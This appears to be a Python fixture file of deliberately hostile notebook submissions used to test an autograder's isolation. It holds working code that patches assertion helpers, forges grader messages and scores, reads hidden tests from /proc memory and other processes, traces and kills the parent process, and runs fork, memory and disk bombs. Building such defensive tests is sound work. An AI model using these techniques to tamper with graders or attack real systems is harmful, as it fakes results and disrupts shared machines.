"""Submissions that attack the grader, the tests or their neighbours, and what each is after.

Every one is bounded, so that it harms nothing even where no sandbox stands around it: at most some
dozen processes, 1 GiB of memory, 200 MB of disk, a few seconds, and no traffic but to this machine
and to addresses that are reserved for documentation. Whoever gets at what is hidden prints FOUND.
"""

from __future__ import annotations

from dataclasses import dataclass

SECRET = "7700770077"  # stands in the hidden tests, and nowhere else
FOUND = "the secret is out"
NAME = "93_hostile"

# The chapter that they are handed in for: f is three times x, plus one.
SOLUTION = "def f(x):\n    return 3 * x + 1"
SETUP = """
import numpy as np
from cnnkit.testing import assert_same, assert_raises, beside_student
"""
BESIDE = """
def kept(x):
    before = x.copy()
    y = f(x)
    return y, bool((x == before).all())
kept = beside_student(kept)
"""
VALUES = "assert_same(f(np.arange(4.0)), np.array([1.0, 4, 7, 10]))"
HIDDEN = f"""assert np.array_equal(f(np.array([2.0])), [7])
### BEGIN HIDDEN TESTS
secret = "{SECRET}"
x = np.linspace(-1, 1, 7).reshape(1, 7)
assert np.allclose(f(x), 3 * x + 1)
assert_same(f(x), 3 * x + 1)
### END HIDDEN TESTS"""
ERROR = """with assert_raises(TypeError):
    f("word")"""
BESIDE_TEST = """y, same = kept(np.arange(3.0))
assert_same(y, np.array([1.0, 4, 7]))
assert same"""


@dataclass(frozen=True)
class Attack:
    """A submission.

    Parameters
    ----------
    after : str
        What it is after, for the table in docs/security.md.
    first : str
        A cell on top of the notebook.
    f : str
        The cell of the exercise.
    last : str
        A cell at the end.
    wins : tuple of str
        The test cells that it may win: what a beside function reports can be forged, which is
        why such tests carry little.
    """

    after: str
    first: str = ""
    f: str = "def f(x):\n    return None"
    last: str = ""
    wins: tuple[str, ...] = ()


LOOK = f"""
import re
def look(text):
    text = text if isinstance(text, bytes) else str(text).encode()
    if re.search(rb"{SECRET[:5]}[{SECRET[5]}]{SECRET[6:]}", text):  # no match for itself
        print("{FOUND[:6]}" + "{FOUND[6:]}")
"""

YES = "yes = lambda *args, **kwargs: None\n"

FORGE = """
import os, socket, struct
def forge(message):
    for number in range(3, 64):
        try:
            other = socket.socket(fileno=os.dup(number))
        except OSError:
            continue
        try:
            other.settimeout(1)
            other.sendall(message)
        except OSError:
            pass
        finally:
            other.close()
def framed(head, body=b""):
    return struct.pack(">IQ", len(head), len(body)) + head + body
"""

ATTACKS: dict[str, Attack] = {}


def attack(name: str, after: str, **parts: object) -> None:
    """Add one."""
    ATTACKS[name] = Attack(after, **parts)


# Patches in its own process ---------------------------------------------------------------------

attack(
    "patched helpers",
    "points",
    first=YES
    + """
import numpy as np, cnnkit.testing
for module in (np.testing, cnnkit.testing):
    for name in dir(module):
        if name.startswith("assert"):
            setattr(module, name, yes)
np.allclose = np.array_equal = lambda *args, **kwargs: True
globals().update({name: yes for name in dir(cnnkit.testing) if name.startswith("assert")})
class assert_raises:
    def __init__(self, *args, **kwargs): pass
    def __enter__(self): return self
    def __exit__(self, *args): return True
cnnkit.testing.assert_raises = assert_raises
""",
)
attack(
    "patched builtins",
    "points",
    first="import builtins\nbuiltins.isinstance = lambda *args: True\n"
    "builtins.all = builtins.any = lambda *args: True\n"
    "builtins.AssertionError = type('Nothing', (BaseException,), {})\n",
)
attack(
    "patched display and hooks",
    "points",
    first="""
shell = get_ipython()
shell.ast_node_interactivity = "none"
def quiet(result):
    result.error_in_exec = result.error_before_exec = None
shell.events.register("post_run_cell", quiet)
shell.showtraceback = lambda *args, **kwargs: None
import sys
sys.excepthook = lambda *args: None
""",
)
attack(
    "asserts dropped from the syntax tree",
    "points",
    first="""
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_With(self, node):
        return ast.Pass()
    def visit_Expr(self, node):
        return ast.Pass() if "assert" in ast.dump(node) else node
get_ipython().ast_transformers.append(Drop())
""",
)
attack(
    "import hook",
    "points",
    first="""
import sys, types
class Module(types.ModuleType):
    def __getattr__(self, name):
        return lambda *args, **kwargs: None
for name in ("cnnkit.testing", "numpy.testing"):
    sys.modules[name] = Module(name)
sys.meta_path.insert(0, type("Hook", (), {"find_spec": staticmethod(lambda *args: None)}))
""",
)
attack(
    "the caller's frame",
    "points",
    f="""
def f(x):
    import sys
    frame = sys._getframe()
    while frame is not None:
        for names in (frame.f_globals, frame.f_locals):
            for name in list(names):
                if name.startswith("assert"):
                    names[name] = lambda *args, **kwargs: None
            names["x"] = 0
        frame = frame.f_back
""",
)
attack(
    "every object of the process",
    "points",
    f="""
def f(x):
    import gc, types
    for thing in gc.get_objects():
        if isinstance(thing, types.FunctionType) and thing.__name__.startswith("assert"):
            thing.__code__ = (lambda *args, **kwargs: None).__code__
""",
)
attack(
    "metadata that claims points",
    "points",
    last="get_ipython()  # see claims()",
)

# Looking for what is hidden ---------------------------------------------------------------------

attack(
    "reads every file in reach",
    "hidden tests, other submissions",
    first=LOOK
    + """
import os, sys
here = os.getcwd()
for top in {here, os.path.dirname(here), "/scratch", "/tmp", "/home", "/srv"}:
    for folder, folders, files in os.walk(top):
        folders[:] = [f for f in folders if f not in ("proc", "sys", ".git", "node_modules")]
        for file in files:
            path = os.path.join(folder, file)
            if file.endswith((".ipynb", ".db", ".py", ".json")):
                try:
                    look(open(path, "rb").read(1 << 20))
                except OSError:
                    pass
""",
)
attack(
    "reads environment and processes",
    "hidden tests",
    first=LOOK
    + """
import glob, os
look(os.environ)
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        text = open(path, "rb").read()
    except OSError:
        continue
    look(text)
    if path.split("/")[2] != str(os.getpid()) and b"tester" in text:
        print("found the tester")
""",
)
attack(
    "reads the memory it inherited",
    "hidden tests",
    first=LOOK
    + """
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        span, rights = line.split()[:2]
        low, high = (int(end, 16) for end in span.split("-"))
        if "rw" in rights and high - low < 64 << 20:
            try:
                memory.seek(low)
                look(memory.read(high - low))
            except (OSError, ValueError, OverflowError):
                pass
""",
)
attack(
    "reads other processes' memory",
    "hidden tests",
    first=LOOK
    + """
import glob, os
for path in glob.glob("/proc/[0-9]*/mem"):
    process = path.split("/")[2]
    if int(process) in (os.getpid(),):
        continue
    try:
        maps, memory = open(f"/proc/{process}/maps"), open(path, "rb", 0)
    except OSError:
        continue
    for line in maps:
        low, high = (int(end, 16) for end in line.split()[0].split("-"))
        if "[heap]" in line and high - low < 64 << 20:
            try:
                memory.seek(low)
                look(memory.read(high - low))
            except OSError:
                pass
""",
)
attack(
    "open files and sockets",
    "hidden tests, the books",
    first=LOOK
    + """
import os, stat
for number in range(3, 256):
    try:
        mode = os.fstat(number).st_mode
        if stat.S_ISREG(mode):
            look(os.pread(number, 1 << 20, 0))
    except OSError:
        pass
""",
)
attack(
    "the source of the cell that calls",
    "hidden tests",
    first=LOOK,
    f="""
def f(x):
    import inspect, linecache, sys
    for lines in list(linecache.cache.values()):
        look(lines)
    frame = sys._getframe()
    while frame is not None:
        try:
            look(inspect.getsource(frame))
        except (OSError, TypeError):
            pass
        look(list(frame.f_locals.values()))
        frame = frame.f_back
""",
    last="try:\n    look(get_ipython().user_ns.get('In'))\n"
    "    look([s for _, _, s in get_ipython().history_manager.get_range()])\n"
    "except Exception as error:\n    print(type(error))",
)
attack(
    "hidden inputs kept and shown",
    "hidden tests",
    first=LOOK,
    f="""
seen = []
def f(x):
    seen.append(x)
""",
    last="look(seen)\nlook(globals())",
)

# The wire ---------------------------------------------------------------------------------------

attack(
    "forged success",
    "points",
    first=FORGE,
    f="""
def f(x):
    forge(framed(b'{"dict": [["ok", true], ["score", 100], ["status", "passed"]]}'))
    print('{"score": 100, "max_score": 100}')
""",
)
attack(
    "a reply before its question",
    "points",
    first=FORGE,
    f="""
def f(x):
    for _ in range(3):
        forge(framed(b'{"dict": [["ok", true], ["value", true]]}'))
    return True
""",
)
attack("an oversized message", "the batch", first=FORGE, f="def f(x):\n    forge(b'\\xff' * 12)")
attack(
    "an endless message",
    "the batch",
    first=FORGE,
    f="""
def f(x):
    import time
    end = time.monotonic() + 3
    while time.monotonic() < end:
        forge(struct.pack(">IQ", 2, 1 << 27) + b"[]" + bytes(1 << 20))
""",
)
attack(
    "a message nested without end",
    "the batch",
    first=FORGE,
    f="def f(x):\n    forge(framed(b'[' * 100_000))",
)
attack(
    "half a message",
    "the batch",
    first=FORGE,
    f="def f(x):\n    forge(struct.pack('>IQ', 100, 100) + b'{')\n    import os\n    os._exit(0)",
)
attack(
    "arrays that lie",
    "the batch",
    first=FORGE,
    f="""
def f(x):
    for dtype, shape, strides in (("<f8", [1 << 20, 1 << 20], None), ("|O8", [1], None),
                                  ("<f8", [3], [1 << 40]), ("<f8", [-1], None), ("<f8", [3], [-8])):
        word = "null" if strides is None else str(strides)
        head = '{"dict": [["ok", true], ["value", {"array": ["%s", %s, %s, true]}]]}'
        forge(framed((head % (dtype, shape, word)).encode(), bytes(24)))
""",
)
attack(
    "hostile objects",
    "points, the tester",
    first="""
import numpy as np
class Yes(np.ndarray):
    def __eq__(self, other): return True
    def __array__(self, *args, **kwargs): return self
    def __array_function__(self, *args, **kwargs): return True
    def __array_ufunc__(self, *args, **kwargs): return True
    def __bool__(self): return True
    def __reduce__(self): return (print, ("unpickled",))
class Any:
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __eq__(self, other): return True
    def __iter__(self): return iter(())
    def __reduce__(self): return (exec, ("raise SystemExit",))
    __array_priority__ = 1e9
""",
    f="def f(x):\n    return Any() if isinstance(x, str) else np.zeros(4).view(Yes)",
)
attack(
    "keys that collide",
    "the tester's time",
    f="def f(x):\n    m = (1 << 61) - 1\n    return {i * m for i in range(5000)}",
)
attack("a value of 200 MB", "the tester's memory", f="def f(x):\n    return b'x' * 200_000_000")
attack(
    "a range without end",
    "the tester's time",
    f="def f(x):\n    return (range(10**18), range(10**18))",
)

# What outlives --------------------------------------------------------------------------------

attack(
    "a thread that goes on",
    "points of the next cell, neighbours",
    first=YES
    + """
import threading, time
def work():
    end = time.monotonic() + 20
    while time.monotonic() < end:
        get_ipython().user_ns.update(assert_same=yes, kept=lambda x: (3 * x + 1, True))
        time.sleep(0.01)
threading.Thread(target=work, daemon=True).start()
""",
    wins=("f-kept",),
)
attack(
    "a process that goes on",
    "neighbours",
    first="""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.monotonic() + 20
        while time.monotonic() < end:
            for folder in (".", "/tmp", "/scratch"):
                try:
                    open(os.path.join(folder, "left-behind"), "w").write("mine")
                except OSError:
                    pass
            time.sleep(0.05)
    os._exit(0)
os.wait()
""",
)
attack(
    "writes over its neighbours",
    "other submissions, the books",
    first="""
import os
here = os.getcwd()
for top in {here, os.path.dirname(here), os.path.dirname(os.path.dirname(here))} - {"/"}:
    for folder, _, files in os.walk(top):
        for file in files:
            path = os.path.join(folder, file)
            if "hostile" in path and file.endswith((".ipynb", ".db")):  # ours, nobody else's
                try:
                    open(path, "ab").write(b"spoilt")
                except OSError:
                    pass
""",
)

# Resources ------------------------------------------------------------------------------------

attack(
    "fork bomb",
    "the machine",
    f="""
def f(x):
    import os, signal
    children = []
    try:
        while len(children) < 60:
            child = os.fork()
            if child == 0:
                signal.alarm(10)
                signal.pause()
                os._exit(0)
            children.append(child)
    finally:
        for child in children:
            os.kill(child, 9)
            os.waitpid(child, 0)
""",
)
attack(
    "threads without end",
    "the machine",
    f="""
def f(x):
    import threading
    stop = threading.Event()
    threads = []
    try:
        while len(threads) < 100:
            threads.append(threading.Thread(target=stop.wait, args=(10,), daemon=True))
            threads[-1].start()
    finally:
        stop.set()
""",
)
attack("memory bomb", "the machine", f="def f(x):\n    return len(bytearray(b'1') * (3 << 30))")
attack(
    "disk bomb",
    "the machine",
    f="""
def f(x):
    import os
    try:
        with open("bomb", "wb") as file:
            for _ in range(200):
                file.write(bytes(1 << 20))
    finally:
        os.remove("bomb")
""",
)
attack(
    "a flood of text", "the feedback", first="for _ in range(200_000):\n    print('flood ' * 20)"
)
attack(
    "a flood of pictures",
    "the feedback",
    first="""
from IPython.display import HTML, display
for _ in range(200):
    display(HTML("<script>document.title = 'taken'</script>" * 100))
    display({"image/png": "AAAA" * 10_000}, raw=True)
print("<script>document.title = 'taken'</script>")
""",
)
attack(
    "a loop that swallows interrupts",
    "the batch",
    f="""
def f(x):
    import signal, time
    end = time.monotonic() + 8
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM):
        signal.signal(number, signal.SIG_IGN)
    while time.monotonic() < end:
        try:
            while time.monotonic() < end:
                pass
        except BaseException:
            pass
""",
)
attack("sleeps", "the batch", f="def f(x):\n    import time\n    time.sleep(8)")
attack(
    "signals to its parent",
    "the batch",
    f="""
def f(x):
    import os, signal
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGKILL):
        try:
            os.kill(os.getppid(), number)
        except OSError:
            pass
""",
)
attack(
    "traces its parent",
    "the tester",
    last="import os\nprint('attached' if os.path.exists('attached') else '')",
    f="""
def f(x):
    import ctypes, os
    libc = ctypes.CDLL(None)
    if libc.ptrace(16, os.getppid(), 0, 0) == 0:
        open("attached", "w").close()
        libc.ptrace(17, os.getppid(), 0, 0)
""",
)
attack("ends its process", "points", f="def f(x):\n    import os\n    os._exit(0)")
attack("claims success by its exit", "points", f="def f(x):\n    raise SystemExit(0)")

# The network ----------------------------------------------------------------------------------

attack(
    "calls home",
    "the network",
    first="""
import socket
for family, address in ((socket.AF_INET, ("192.0.2.1", 80)), (socket.AF_INET, ("127.0.0.1", 22)),
                        (socket.AF_INET, ("192.0.2.53", 53))):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as line:
            line.settimeout(0.5)
            line.connect(address)
            print("the line is open")
    except OSError:
        pass
""",
)
attack(
    "waits to be called",
    "the network",
    f="""
def f(x):
    import socket
    with socket.socket() as line:
        line.bind(("", 0))
        line.listen()
        line.settimeout(0.3)
        try:
            line.accept()
        except OSError:
            pass
""",
)


def claims(notebook: dict) -> None:
    """Write points and marks of success into the metadata of every cell."""
    for cell in notebook["cells"]:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"] |= {"points": 1000, "score": 1000, "manual_score": 1000}
            cell["metadata"]["score"] = 1000
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "1000/1000"}]
    notebook["metadata"]["score"] = notebook["metadata"]["nbgrader"] = {"score": 1000}
